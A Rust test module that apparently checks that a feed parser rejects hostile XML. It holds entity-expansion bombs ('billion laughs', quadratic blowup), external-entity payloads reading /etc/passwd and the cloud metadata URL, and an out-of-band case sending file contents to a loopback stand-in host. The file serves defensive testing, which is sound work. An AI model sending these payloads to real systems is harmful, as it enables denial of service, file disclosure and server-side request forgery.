//! Entities that grow, go in circles or hide, and documents that name others: none is expanded, none is opened.

use super::{Case, ill, odd, rss, sound};

/// A feed with this internal subset, whose item holds `text`.
fn with_subset(subset: &str, text: &str) -> String {
    format!(
        "<?xml version='1.0'?>\n<!DOCTYPE rss [{subset}]>\n{}",
        rss(&format!("<item><title>{text}</title></item>"))
    )
}

/// Declarations of `a0` to `a{depth}`, each ten times the one before.
fn laughs(depth: usize) -> String {
    let level = |i: usize| format!("<!ENTITY a{i} '{}'>", format!("&a{};", i - 1).repeat(10));
    let grown: String = (1..=depth).map(level).collect();
    format!("<!ENTITY a0 'ha'>{grown}")
}

/// Declarations of `a0` to `a{length}`, each standing for the next one.
fn chain(length: usize) -> String {
    let link = |i: usize| format!("<!ENTITY a{i} '&a{};'>", i + 1);
    let links: String = (0..length).map(link).collect();
    format!("{links}<!ENTITY a{length} 'end'>")
}

pub(super) fn bombs() -> Vec<Case> {
    const UNDEFINED: &str = "xml-entity-undefined";
    vec![
        ill("laughs", UNDEFINED, || with_subset(&laughs(9), "&a9;")),
        ill("laughs-thirty-deep", UNDEFINED, || {
            with_subset(&laughs(30), "&a30;")
        }),
        ill("laughs-in-an-attribute", UNDEFINED, || {
            let feed = rss("<item a='&a9;'/>");
            format!("<!DOCTYPE rss [{}]>{feed}", laughs(9))
        }),
        ill("laughs-in-a-default", UNDEFINED, || {
            with_subset(
                &format!("{}<!ATTLIST item a CDATA '&a9;'>", laughs(9)),
                "&a9;",
            )
        }),
        odd("quadratic", UNDEFINED, || {
            let big = format!("<!ENTITY a '{}'>", "x".repeat(100_000));
            with_subset(&big, &"&a;".repeat(20_000))
        }),
        odd("quadratic-in-an-attribute", UNDEFINED, || {
            let feed = rss(&format!("<item a='{}'/>", "&a;".repeat(20_000)));
            format!(
                "<!DOCTYPE rss [<!ENTITY a '{}'>]>{feed}",
                "x".repeat(100_000)
            )
        }),
        ill("parameter-laughs", UNDEFINED, || {
            let grown: String = (1..12)
                .map(|i| format!("<!ENTITY % p{i} '{}'>", format!("%p{};", i - 1).repeat(10)))
                .collect();
            with_subset(
                &format!("<!ENTITY % p0 'ha'>{grown}<!ENTITY g '%p11;'>"),
                "&g;",
            )
        }),
        ill("parameter-in-parameter", UNDEFINED, || {
            let subset = "<!ENTITY % a '&#37;b;&#37;b;&#37;b;'><!ENTITY % b '&#37;c;&#37;c;&#37;c;'><!ENTITY % c '&#37;a;'>%a;";
            with_subset(subset, "&x;")
        }),
        odd("parameter-without-use", "xml-doctype-ignored", || {
            with_subset("<!ENTITY % a '<!ENTITY b \"c\">'>%a;", "plain")
        })
        .valid(),
        ill("loop-of-one", UNDEFINED, || {
            with_subset("<!ENTITY a '&a;'>", "&a;")
        }),
        ill("loop-of-two", UNDEFINED, || {
            with_subset("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;")
        }),
        ill("loop-of-a-hundred", UNDEFINED, || {
            let subset = chain(100).replace("'end'", "'&a0;'");
            with_subset(&subset, "&a0;")
        }),
        ill("loop-in-an-attribute", UNDEFINED, || {
            format!(
                "<!DOCTYPE rss [<!ENTITY a '&a;'>]>{}",
                rss("<item a='&a;'/>")
            )
        }),
        ill("loop-of-parameters", UNDEFINED, || {
            with_subset("<!ENTITY % a '&#37;b;'><!ENTITY % b '&#37;a;'>%a;", "&x;")
        }),
        ill("chain-of-20000", UNDEFINED, || {
            with_subset(&chain(20_000), "&a0;")
        }),
        ill("chain-in-an-attribute", UNDEFINED, || {
            format!(
                "<!DOCTYPE rss [{}]>{}",
                chain(20_000),
                rss("<item a='&a0;'/>")
            )
        }),
        odd("declarations-100000", UNDEFINED, || {
            let all: String = (0..100_000)
                .map(|i| format!("<!ENTITY a{i} 'x'>"))
                .collect();
            with_subset(&all, "&a7;")
        }),
        odd("attribute-defaults-10000", UNDEFINED, || {
            let all: String = (0..10_000).map(|i| format!(" a{i} CDATA 'x'")).collect();
            with_subset(&format!("<!ENTITY e ''><!ATTLIST item{all}>"), "&e;")
        }),
        ill("references-1000000", UNDEFINED, || {
            rss(&"&x;".repeat(1_000_000))
        }),
        ill("references-in-an-attribute", UNDEFINED, || {
            rss(&format!("<item a='{}'/>", "&x;".repeat(1_000_000)))
        }),
        ill("distinct-references", UNDEFINED, || {
            rss(&(0..100_000).map(|i| format!("&x{i};")).collect::<String>())
        }),
        ill("half-an-element", UNDEFINED, || {
            with_subset("<!ENTITY a '<b>'>", "&a;")
        }),
        ill("two-halves", UNDEFINED, || {
            with_subset("<!ENTITY a '<b>'><!ENTITY b '</b>'>", "&a;x&b;")
        }),
        odd("a-script-in-it", UNDEFINED, || {
            with_subset("<!ENTITY a '&#60;script>alert(1)&#60;/script>'>", "&a;")
        }),
        ill("predefined-redefined", UNDEFINED, || {
            with_subset("<!ENTITY lt '<b>'><!ENTITY amp 'x'>", "&lt;&amp;&none;")
        }),
        ill("subset-without-end", "xml-markup-unclosed", || {
            format!("<!DOCTYPE rss [<!ENTITY a 'b'>{}", rss(""))
        }),
        ill("quote-without-end", "xml-markup-unclosed", || {
            format!(
                "<!DOCTYPE rss [<!ENTITY a 'b>]>{}",
                rss("").replace('\'', "\"")
            )
        }),
        ill("brackets-in-brackets", "xml-text-outside-root", || {
            format!("<!DOCTYPE rss [{}]>{}", "[".repeat(100_000), rss("")) + "]>"
        }),
        ill("doctype-in-content", "xml-doctype-misplaced", || {
            rss("<item><!DOCTYPE rss [<!ENTITY a 'b'>]><title>&a;</title></item>")
        }),
        ill("doctypes-100000", "xml-doctype-misplaced", || {
            "<!DOCTYPE rss>".repeat(100_000) + &rss("")
        }),
        ill("doctype-behind-the-root", "xml-doctype-misplaced", || {
            rss("") + "<!DOCTYPE rss>"
        }),
        odd("subset-of-20-mb", "limit-exceeded", || {
            with_subset(&format!("<!-- {} -->", "x".repeat(20 << 20)), "a")
        }),
        odd("end-hidden-in-a-comment", UNDEFINED, || {
            with_subset("<!-- ]> <rss> ' --><!ENTITY a 'b'>", "&a;")
        }),
        odd("end-hidden-in-a-value", UNDEFINED, || {
            with_subset("<!ENTITY a ']><rss>'>", "&a;")
        }),
        ill("conditional-sections", "xml-root-missing", || {
            with_subset(&"<![INCLUDE[".repeat(10_000), "&x;") + &"]]>".repeat(10_000)
        }),
    ]
}

/// Where a hostile document would have us look.
const PLACES: &[(&str, &str)] = &[
    ("file", "file:///etc/passwd"),
    ("file-without-slashes", "file:/etc/hostname"),
    ("path", "/etc/passwd"),
    ("path-beside", "beside.txt"),
    ("path-above", "../../../../etc/passwd"),
    ("http", "http://127.0.0.1:9/evil.dtd"),
    ("https", "https://localhost:9/evil.dtd"),
    ("ftp", "ftp://127.0.0.1:9/evil.dtd"),
    ("data", "data:text/plain,root:x:0:0"),
    (
        "php",
        "php://filter/read=convert.base64-encode/resource=/etc/passwd",
    ),
    ("jar", "jar:http://127.0.0.1:9/a.jar!/b"),
    ("unc", "\\\\127.0.0.1\\share\\evil.dtd"),
    ("metadata", "http://169.254.169.254/latest/meta-data/"),
    ("device", "/dev/zero"),
];

pub(super) fn elsewhere() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, place) in PLACES {
        cases.push(odd(
            &format!("entity-{name}"),
            "xml-entity-undefined",
            move || with_subset(&format!("<!ENTITY x SYSTEM '{place}'>"), "&x;"),
        ));
        cases.push(
            odd(&format!("dtd-{name}"), "xml-entity-unread", move || {
                let feed = rss("<item><title>&x;</title></item>");
                format!("<!DOCTYPE rss SYSTEM '{place}'>{feed}")
            })
            .valid(),
        );
    }
    cases.extend([
        ill("entity-in-an-attribute", "xml-entity-undefined", || {
            let feed = rss("<item a='&x;'/>");
            format!("<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{feed}")
        }),
        odd("parameter-external", "xml-entity-unread", || {
            with_subset("<!ENTITY % x SYSTEM 'file:///etc/passwd'>%x;", "&y;")
        })
        .or("xml-entity-undefined"),
        ill("out-of-band", "xml-entity-undefined", || {
            let subset = "<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % e '<!ENTITY &#37; s SYSTEM \"http://127.0.0.1:9/?%f;\">'>%e;%s;";
            with_subset(subset, "&s;")
        }),
        odd("public", "xml-doctype-ignored", || {
            let doctype = "<!DOCTYPE rss PUBLIC '-//Nobody//DTD Feed//EN' 'http://127.0.0.1:9/feed.dtd'>";
            format!("{doctype}{}", rss(""))
        }).valid(),
        odd("unparsed", "xml-doctype-ignored", || {
            with_subset("<!NOTATION n SYSTEM '/bin/sh'><!ENTITY x SYSTEM 'file:///etc/passwd' NDATA n>", "a")
        }).valid(),
        odd("xinclude-xml", "element-missing", || {
            rss("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>")
                .replace("<link>https://a.example/</link>", "")
        }),
        odd("xinclude-text", "element-missing", || {
            let body = "<item><title><xi:include parse='text' href='beside.txt' xmlns:xi='http://www.w3.org/2001/XInclude'>\
<xi:fallback>x</xi:fallback></xi:include></title></item>";
            rss(body).replace("<link>https://a.example/</link>", "")
        }),
        sound("stylesheet-file", || {
            "<?xml-stylesheet type='text/xsl' href='beside.txt'?>".to_owned() + &rss("")
        }),
        sound("stylesheet-http", || {
            "<?xml-stylesheet type='text/css' href='http://127.0.0.1:9/a.css'?>".to_owned() + &rss("")
        }),
        sound("model", || "<?xml-model href='http://127.0.0.1:9/a.rng'?>".to_owned() + &rss("")),
        sound("catalog", || "<?oasis-xml-catalog catalog='beside.txt'?>".to_owned() + &rss("")),
        odd("schema-location", "self-link-missing", || {
            let schema = "<rss xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' \
xsi:schemaLocation='urn:a http://127.0.0.1:9/a.xsd' xsi:noNamespaceSchemaLocation='beside.txt'";
            rss("").replace("<rss", schema)
        })
        .valid(),
        odd("base-file", "url-not-absolute", || {
            rss("<item><link>beside.txt</link></item>").replace("<rss", "<rss xml:base='file:///etc/'")
        }),
        odd("atom-content-elsewhere", "element-missing", || {
            "<feed xmlns='http://www.w3.org/2005/Atom'><entry><content type='text/html' src='beside.txt'/></entry></feed>".to_owned()
        }),
        odd("enclosure-file", "url-not-web", || {
            rss("<item><title>a</title><enclosure url='file:///etc/passwd' length='1' type='audio/mpeg'/></item>")
        }),
        odd("opml-include", "element-missing", || {
            "<opml version='2.0'><body><outline type='include' text='a' url='file:///etc/passwd'/></body></opml>".to_owned()
        }),
        odd("html-inside", "html-embedded", || {
            rss("<item><description><![CDATA[<iframe src='file:///etc/passwd'></iframe><img src='http://127.0.0.1:9/x'>\
<object data='beside.txt'></object><script src='http://127.0.0.1:9/x.js'></script>]]></description></item>")
        })
        .valid(),
        odd("namespace-file", "namespace-unknown", || {
            rss("<item><title>a</title><x:a xmlns:x='file:///etc/passwd'/></item>")
        })
        .valid(),
    ]);
    cases
}
